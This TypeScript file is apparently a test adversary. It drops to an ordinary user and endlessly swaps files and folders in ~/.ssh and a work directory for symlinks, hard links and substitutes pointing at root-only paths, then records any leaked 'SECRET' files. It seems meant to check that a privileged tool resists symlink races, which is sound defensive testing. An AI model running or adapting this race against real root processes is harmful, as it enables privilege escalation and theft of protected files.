/**
 * A user who waits for root to write in folders that are the user's own, and swaps what appears there for links to what is root's alone.
 * `attacker.ts HOME UID GID`: HOME as this process sees it; in it a file `w/fifo`. Ends when it is killed. Secrets that become readable are written to HOME/leaks.
 */
import fs from 'node:fs'

const [home = '', uid, gid] = process.argv.slice(2)
process.setgroups!([])
process.setgid!(Number(gid))
process.setuid!(Number(uid))

const folders = [`${home}/.ssh`, `${home}/w`]
/** Paths as root sees them. */
const baits = ['/home/rootonly', '/home/rootonly/f', '/home/rootonly/d', '/home/rootonly/new', '/home/rootonly/nothing']
const swapped = ['f', 'l', 'b', 'a', 'n', 'd', 'authorized_keys']
const pick = <T>(from: readonly T[]): T => from[Math.floor(Math.random() * from.length)]!
let count = 0

/** Most tries come too early or too late. */
function attempt<T>(what: () => T): T | undefined {
  try {
    return what()
  } catch {
    return undefined
  }
}

function swapNewcomer(folder: string): void {
  for (const name of attempt(() => fs.readdirSync(folder)) ?? []) {
    if (!name.startsWith('.') || name.startsWith('.gone')) continue
    const path = `${folder}/${name}`
    attempt(() => fs.renameSync(path, `${folder}/.gone${count++}`))
    attempt(() => fs.symlinkSync(pick(baits), path))
    if (count % 3 === 0) attempt(() => fs.unlinkSync(path))
    if (count % 300 === 0) attempt(() => sweep(folder))
  }
}

function sweep(folder: string): void {
  for (const name of fs.readdirSync(folder)) {
    if (!name.startsWith('.gone')) continue
    attempt(() => fs.unlinkSync(`${folder}/${name}`))
    attempt(() => fs.rmdirSync(`${folder}/${name}`))
  }
}

function swapNamed(folder: string): void {
  const path = `${folder}/${pick(swapped)}`
  const spare = `${folder}/spare`
  attempt(() => fs.unlinkSync(path))
  attempt(() => fs.rmdirSync(path))
  const how = count++ % 6
  if (how < 3) attempt(() => fs.symlinkSync(pick(baits), path))
  if (how === 3) attempt(() => fs.mkdirSync(path))
  if (how === 4) attempt(() => fs.linkSync(`${home}/w/fifo`, path))
  if (how === 5) attempt(() => fs.writeFileSync(spare, 'mine\n') ?? fs.renameSync(spare, path))
}

function swapFolder(folder: string): void {
  attempt(() => fs.renameSync(folder, `${folder}-aside`))
  attempt(() => fs.symlinkSync('/home/rootonly', folder))
  attempt(() => fs.unlinkSync(folder))
  attempt(() => fs.renameSync(`${folder}-aside`, folder))
}

function lookForSecrets(folder: string): void {
  for (const name of attempt(() => fs.readdirSync(folder)) ?? []) {
    const path = `${folder}/${name}`
    if (attempt(() => fs.lstatSync(path))?.isFile() !== true) continue
    if (attempt(() => fs.readFileSync(path, 'utf8'))?.includes('SECRET'))
      fs.appendFileSync(`${home}/leaks`, `${name}\n`)
  }
}

for (;;) {
  for (const folder of folders) {
    for (let i = 0; i < 20; i++) swapNewcomer(folder)
    if (Math.random() < 0.3) swapNamed(folder)
    if (Math.random() < 0.1) swapFolder(folder)
    if (Math.random() < 0.05) lookForSecrets(folder)
  }
}
